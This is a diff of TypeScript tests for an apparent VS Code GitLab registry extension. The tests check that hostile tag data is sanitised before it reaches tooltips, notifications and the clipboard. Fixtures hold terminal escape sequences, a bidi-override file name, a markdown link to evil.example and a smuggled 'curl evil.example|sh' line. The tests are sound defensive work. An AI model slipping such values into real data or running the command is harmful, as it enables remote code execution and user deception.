@@ -37,7 +37,7 @@ test('Open in Browser refuses a web_url on another host (GitLab\'s answer is a s
   try {
     await addAccount(a, 'owner');
     const project = await path(a, doubleHost(), 'acme/website');
-    const repo = await path(a, doubleHost(), 'acme/website', 'acme/website');
+    const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
     const opened = recordOpened(a);
     const shown = captureMessages(a);
     try {
@@ -59,7 +59,7 @@ test('Open in Browser refuses a web_url on another host (GitLab\'s answer is a s
 test('a hostile tag location cannot leave its code span in the tooltip; controls never reach a label', async () => {
   const a = await fresh();
   await addAccount(a, 'owner');
-  const repo = await path(a, doubleHost(), 'acme/website', 'acme/website');
+  const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
   const hostile: TagNode = {
     kind: 'tag', id: `${repo.id}/t:hostile`, accountId: repo.accountId, parent: repo, repositoryId: 5, projectId: 3,
     tag: { name: 'x\u001b]0;owned\u0007y', path: 'acme/website:x', location: 'r.example/a:x`[click](https://evil.example)`\n```\nz' },
@@ -75,16 +75,16 @@ test('a hostile tag location cannot leave its code span in the tooltip; controls
 test('GitLab\'s error text reaches a notification without control characters (no ESC/OSC/C1, no bidi override)', async () => {
   const a = await fresh();
   await addAccount(a, 'owner');
-  const repo = await path(a, doubleHost(), 'acme/website', 'acme/website');
+  const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
   await harness.control('POST', '/__double/faults', {
     method: 'GET', path: '^/api/v4/projects/3/registry/repositories/5/tags/', status: 403, times: 50,
     body: JSON.stringify({ message: '403 Forbidden \u001b]0;owned\u0007\u001b[31mred\u009b\u202egnp.exe' }),
   });
   const shown = captureMessages(a);
   try {
-    a.model.refresh(repo); // forget the tag details, so Copy Digest asks GitLab
     const tag = (await children(a, repo)).find((n) => n.kind === 'tag');
     assert.ok(tag);
+    a.model.refresh(repo); // forget the tag details (newest first read them all), so Copy Digest asks GitLab
     await vscode.commands.executeCommand('gitlabRegistry.copyDigest', tag);
   } finally {
     shown.restore();
@@ -99,7 +99,7 @@ test('GitLab\'s error text reaches a notification without control characters (no
 test('Copy Image Reference puts no control character on the clipboard (a pasted line break would run a command)', async () => {
   const a = await fresh();
   await addAccount(a, 'owner');
-  const repo = await path(a, doubleHost(), 'acme/website', 'acme/website');
+  const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
   const hostile: TagNode = {
     kind: 'tag', id: `${repo.id}/t:paste`, accountId: repo.accountId, parent: repo, repositoryId: 5, projectId: 3,
     tag: { name: 'x', path: 'acme/website:x', location: 'r.example/a:x\ncurl evil.example|sh\r\u001b[8m' },
